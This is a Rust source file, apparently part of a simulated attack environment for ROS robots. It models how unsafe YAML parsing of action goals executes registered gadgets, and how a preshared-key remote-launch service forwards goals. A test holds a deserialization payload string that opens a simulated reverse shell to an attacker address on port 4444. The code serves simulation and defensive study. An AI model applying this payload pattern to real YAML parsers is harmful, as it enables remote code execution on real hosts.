//! The action-client tool and its goal path. Goal text runs through the
//! YAML parser in the mode the host's hardening selects: safe parsing
//! rejects tagged payloads outright, unsafe parsing constructs whatever the
//! payload names — and constructing is executing.

use std::collections::BTreeMap;
use std::net::Ipv4Addr;
use std::rc::Rc;

use minyaml::{fill_message_args, FieldType, GadgetRegistry, MessageSchema, Node, ParseError};

use crate::rosgraph::header::FrameBuffer;
use crate::rosgraph::launch::{launch_fields, split_fields, RemoteTool};
use crate::rosgraph::nodes::{ShellClientApp, LAUNCH_PORT};
use crate::rosgraph::session::{Origin, SessionId, User};
use crate::simnet::tcp::{AppId, ConnId, TcpError};
use crate::simnet::time::SimTime;
use crate::simnet::world::{App, AppEvent, FrameLogEntry, World};
use crate::simnet::HostId;

/// Sandboxed effect descriptors gadgets may produce. Enacting one is the
/// caller's decision; the parser only ever returns these.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SimEffect {
    SpawnReverseShell { to_ip: Ipv4Addr, port: u16 },
    SpawnLocalShell,
}

impl std::fmt::Display for SimEffect {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            SimEffect::SpawnReverseShell { to_ip, port } => {
                write!(f, "SpawnReverseShell{{{}:{}}}", to_ip, port)
            }
            SimEffect::SpawnLocalShell => write!(f, "SpawnLocalShell"),
        }
    }
}

/// The registry every station ships: the same gadget set whether or not the
/// station parses safely — the mitigation is the parse mode, not the
/// registry.
pub fn default_gadget_registry() -> GadgetRegistry<SimEffect> {
    let mut reg = GadgetRegistry::new();
    reg.register("spawn_shell", |args: &[Node]| {
        let ip: Ipv4Addr = args
            .first()
            .and_then(|a| a.as_str())
            .and_then(|s| s.parse().ok())
            .ok_or("spawn_shell expects [ip, port]")?;
        let port = args
            .get(1)
            .and_then(|a| a.as_int())
            .and_then(|p| u16::try_from(p).ok())
            .ok_or("spawn_shell expects [ip, port]")?;
        Ok(SimEffect::SpawnReverseShell { to_ip: ip, port })
    });
    reg.register("local_shell", |_args: &[Node]| Ok(SimEffect::SpawnLocalShell));
    reg
}

/// Outcome of feeding one goal document to the tool.
#[derive(Debug, Clone, PartialEq)]
pub enum GoalOutcome {
    /// Benign text: messages filled and the goal published.
    Ack { messages: usize },
    /// Parsing alone fired these effects.
    Effects(Vec<SimEffect>),
    /// Safe parsing refused a tagged node — the mitigation observable.
    Rejected { tag: String },
    Error(String),
}

fn goal_schema(action: &str) -> MessageSchema {
    let type_name = format!("{}Goal", action.rsplit('/').next().unwrap_or("Set"));
    MessageSchema::new(type_name, vec![("mode", FieldType::Int)])
}

fn publish_goal(world: &mut World, host: HostId, action: &str, messages: &[minyaml::Message]) {
    let channel = format!("{}/goal", action);
    for msg in messages {
        let text: Vec<String> = msg
            .fields
            .iter()
            .map(|(k, v)| format!("{}={:?}", k, v))
            .collect();
        let name = world.host(host).name.clone();
        world.log("goal-published", &name, format!("{} {}", channel, text.join(" ")));
        world.tx_log.push(FrameLogEntry {
            t: world.now,
            host,
            channel: channel.clone(),
            robot: None,
            counter: None,
            payload: text.join("\n").into_bytes(),
            local: (Ipv4Addr::UNSPECIFIED, 0),
            remote: (Ipv4Addr::UNSPECIFIED, 0),
            seq: 0,
        });
    }
}

fn enact(world: &mut World, host: HostId, effect: &SimEffect) {
    let name = world.host(host).name.clone();
    world.log("payload-effect", &name, format!("{}", effect));
    match effect {
        SimEffect::SpawnReverseShell { to_ip, port } => {
            initiate_reverse_shell(world, host, *to_ip, *port);
        }
        SimEffect::SpawnLocalShell => {
            world.add_session(host, User::Ros, Origin::Exploit);
        }
    }
}

/// Runs one goal document through the tool on `host`. Does not pump the
/// event loop, so it is callable from inside app handlers.
pub fn tool_process_goal(
    world: &mut World,
    host: HostId,
    registry: &GadgetRegistry<SimEffect>,
    action: &str,
    yaml: &str,
) -> GoalOutcome {
    let schema = goal_schema(action);
    let name = world.host(host).name.clone();
    if world.host(host).hardening.safe_yaml {
        match minyaml::parse_safe(yaml) {
            Ok(value) => match fill_message_args(&schema, &value) {
                Ok(msgs) => {
                    publish_goal(world, host, action, &msgs);
                    GoalOutcome::Ack {
                        messages: msgs.len(),
                    }
                }
                Err(e) => GoalOutcome::Error(format!("{}", e)),
            },
            Err(ParseError::ForbiddenTag { tag, .. }) => {
                world.log("parse-rejected", &name, format!("forbidden tag {}", tag));
                GoalOutcome::Rejected { tag }
            }
            Err(e) => GoalOutcome::Error(format!("{}", e)),
        }
    } else {
        match minyaml::parse_unsafe(yaml, registry) {
            Ok(parsed) => {
                if parsed.invoked.is_empty() {
                    let value = parsed
                        .root
                        .as_plain()
                        .expect("no gadgets means a plain value");
                    match fill_message_args(&schema, value) {
                        Ok(msgs) => {
                            publish_goal(world, host, action, &msgs);
                            GoalOutcome::Ack {
                                messages: msgs.len(),
                            }
                        }
                        Err(e) => GoalOutcome::Error(format!("{}", e)),
                    }
                } else {
                    let effects: Vec<SimEffect> =
                        parsed.invoked.iter().map(|c| c.effect.clone()).collect();
                    for effect in &effects {
                        enact(world, host, effect);
                    }
                    GoalOutcome::Effects(effects)
                }
            }
            Err(e) => GoalOutcome::Error(format!("{}", e)),
        }
    }
}

/// Starts the callback client on the target. App-safe; the session appears
/// once the attacker's listener accepts.
pub fn initiate_reverse_shell(world: &mut World, target: HostId, to_ip: Ipv4Addr, port: u16) {
    let app = world.add_app(
        target,
        Box::new(ShellClientApp {
            host: target,
            dst: (to_ip, port),
        }),
    );
    world.schedule_app_timer(app, SimTime::ZERO, 1);
    let _: AppId = app;
}

/// Driver-level reverse shell: initiates the callback, pumps the loop, and
/// returns the session the attacker gained, or why the path failed.
pub fn spawn_reverse_shell(
    world: &mut World,
    target: HostId,
    to_ip: Ipv4Addr,
    port: u16,
) -> Result<SessionId, TcpError> {
    let before = world.sessions.len();
    let target_name = world.host(target).name.clone();
    initiate_reverse_shell(world, target, to_ip, port);
    world.settle();
    for (i, s) in world.sessions.iter().enumerate().skip(before) {
        if s.host == target_name && s.origin == Origin::ReverseShell {
            return Ok(i);
        }
    }
    let filtered = world
        .drops
        .iter()
        .any(|d| d.dst == to_ip && d.dst_port == port);
    if filtered {
        Err(TcpError::Filtered)
    } else {
        Err(TcpError::ConnectionRefused)
    }
}

/// Local tool invocation (no remote channel). Maintainer users are gated by
/// the host tool-access policy; the tool itself runs with ROS privileges.
pub fn run_local_tool(
    world: &mut World,
    host: HostId,
    user: User,
    registry: &GadgetRegistry<SimEffect>,
    action: &str,
    yaml: &str,
) -> Result<GoalOutcome, &'static str> {
    if user == User::Maintainer && !world.config.tool_access_maintainer {
        return Err("tool access denied for maintainer users");
    }
    let outcome = tool_process_goal(world, host, registry, action, yaml);
    world.settle();
    Ok(outcome)
}

/// Sends a goal document over a remote tool's interaction channel and reads
/// the reply. Driver-level: pumps the loop.
pub fn axclient_send_goal(
    world: &mut World,
    tool: &RemoteTool,
    action: &str,
    yaml: &str,
) -> Result<GoalOutcome, TcpError> {
    let request = launch_fields(&["goal", action, yaml]);
    world.send(tool.conn, &request)?;
    world.settle();
    let mut fb = FrameBuffer::new();
    fb.push(&world.drain_recv(tool.conn));
    let reply = fb.next_frame().ok_or(TcpError::Reset)?;
    let fields = split_fields(&reply);
    match fields.first().map(|s| s.as_str()) {
        Some("ack") => Ok(GoalOutcome::Ack {
            messages: fields.get(1).and_then(|s| s.parse().ok()).unwrap_or(1),
        }),
        Some("effect") => Ok(GoalOutcome::Effects(
            fields
                .get(1)
                .map(|s| {
                    s.split(';')
                        .filter_map(|d| parse_effect(d))
                        .collect::<Vec<_>>()
                })
                .unwrap_or_default(),
        )),
        Some("rejected") => Ok(GoalOutcome::Rejected {
            tag: fields.get(1).cloned().unwrap_or_default(),
        }),
        Some("err") => Ok(GoalOutcome::Error(fields.get(1).cloned().unwrap_or_default())),
        _ => Err(TcpError::Reset),
    }
}

fn parse_effect(s: &str) -> Option<SimEffect> {
    if s == "SpawnLocalShell" {
        return Some(SimEffect::SpawnLocalShell);
    }
    let inner = s.strip_prefix("SpawnReverseShell{")?.strip_suffix('}')?;
    let (ip, port) = inner.split_once(':')?;
    Some(SimEffect::SpawnReverseShell {
        to_ip: ip.parse().ok()?,
        port: port.parse().ok()?,
    })
}

// --- the remote-launch service ------------------------------------------------

struct LaunchConn {
    fb: FrameBuffer,
    tool_action: Option<String>,
}

/// Listens on the launch port of every interface; launches tools for
/// requesters holding preshared keys and forwards the tool's text channel
/// over the same connection.
pub struct LaunchServiceApp {
    pub host: HostId,
    registry: Rc<GadgetRegistry<SimEffect>>,
    conns: BTreeMap<ConnId, LaunchConn>,
}

impl LaunchServiceApp {
    pub fn new(host: HostId, registry: Rc<GadgetRegistry<SimEffect>>) -> LaunchServiceApp {
        LaunchServiceApp {
            host,
            registry,
            conns: BTreeMap::new(),
        }
    }

    fn reply_for(&mut self, world: &mut World, conn: ConnId, fields: Vec<String>) -> Vec<u8> {
        let cmd = fields.first().map(|s| s.as_str()).unwrap_or("");
        match cmd {
            "launch" => {
                let requester = world
                    .host_of_ip(world.conn(conn).remote.0)
                    .map(|h| world.host(h).name.clone())
                    .unwrap_or_default();
                let keys = &world.host(self.host).hardening.preshared_keys_with;
                if !keys.iter().any(|k| *k == requester) {
                    return launch_fields(&["err", "NoPresharedKey"]);
                }
                let action = fields.get(3).cloned().unwrap_or_default();
                let session = world.add_session(self.host, User::Ros, Origin::RemoteLaunch);
                let name = world.host(self.host).name.clone();
                world.log(
                    "remote-launch",
                    &name,
                    format!(
                        "{} launched {}/{} for {} (display forwarded)",
                        requester,
                        fields.get(1).cloned().unwrap_or_default(),
                        fields.get(2).cloned().unwrap_or_default(),
                        action
                    ),
                );
                self.conns.get_mut(&conn).unwrap().tool_action = Some(action);
                launch_fields(&["ok", &session.to_string()])
            }
            "goal" => {
                if self.conns.get(&conn).and_then(|c| c.tool_action.clone()).is_none() {
                    return launch_fields(&["err", "NoTool"]);
                }
                let action = fields.get(1).cloned().unwrap_or_default();
                let yaml = fields.get(2).cloned().unwrap_or_default();
                let registry = self.registry.clone();
                match tool_process_goal(world, self.host, &registry, &action, &yaml) {
                    GoalOutcome::Ack { messages } => launch_fields(&["ack", &messages.to_string()]),
                    GoalOutcome::Effects(effects) => {
                        let desc: Vec<String> = effects.iter().map(|e| e.to_string()).collect();
                        launch_fields(&["effect", &desc.join(";")])
                    }
                    GoalOutcome::Rejected { tag } => launch_fields(&["rejected", &tag]),
                    GoalOutcome::Error(msg) => launch_fields(&["err", &msg]),
                }
            }
            _ => launch_fields(&["err", "unknown command"]),
        }
    }
}

impl App for LaunchServiceApp {
    fn handle(&mut self, world: &mut World, id: AppId, event: AppEvent) {
        match event {
            AppEvent::Timer { tag: 1 } => {
                let ips: Vec<Ipv4Addr> = world
                    .host(self.host)
                    .interfaces
                    .iter()
                    .map(|i| i.ip)
                    .collect();
                for ip in ips {
                    world.listen(id, self.host, ip, LAUNCH_PORT);
                }
            }
            AppEvent::Accepted { conn, .. } => {
                self.conns.insert(
                    conn,
                    LaunchConn {
                        fb: FrameBuffer::new(),
                        tool_action: None,
                    },
                );
            }
            AppEvent::Readable { conn } => {
                let bytes = world.drain_recv(conn);
                if self.conns.contains_key(&conn) {
                    self.conns.get_mut(&conn).unwrap().fb.push(&bytes);
                    loop {
                        let frame = match self.conns.get_mut(&conn).unwrap().fb.next_frame() {
                            Some(f) => f,
                            None => break,
                        };
                        let fields = split_fields(&frame);
                        let reply = self.reply_for(world, conn, fields);
                        let _ = world.send(conn, &reply);
                    }
                }
            }
            AppEvent::PeerClosed { conn } => {
                world.close(conn);
            }
            AppEvent::Closed { conn, .. } => {
                self.conns.remove(&conn);
            }
            _ => {}
        }
    }

    fn as_any(&mut self) -> Option<&mut dyn std::any::Any> {
        Some(self)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn effect_descriptor_round_trip() {
        let e = SimEffect::SpawnReverseShell {
            to_ip: "16.0.0.30".parse().unwrap(),
            port: 4444,
        };
        assert_eq!(parse_effect(&e.to_string()), Some(e));
        assert_eq!(
            parse_effect("SpawnLocalShell"),
            Some(SimEffect::SpawnLocalShell)
        );
    }

    #[test]
    fn gadget_registry_builds_shell_effects() {
        let reg = default_gadget_registry();
        let parsed =
            minyaml::parse_unsafe("!!obj/apply:spawn_shell ['17.0.0.30', 4444]", &reg).unwrap();
        match &parsed.root {
            minyaml::UnsafeNode::Gadget(call) => {
                assert_eq!(
                    call.effect,
                    SimEffect::SpawnReverseShell {
                        to_ip: "17.0.0.30".parse().unwrap(),
                        port: 4444
                    }
                );
            }
            other => panic!("expected gadget, got {:?}", other),
        }
    }
}
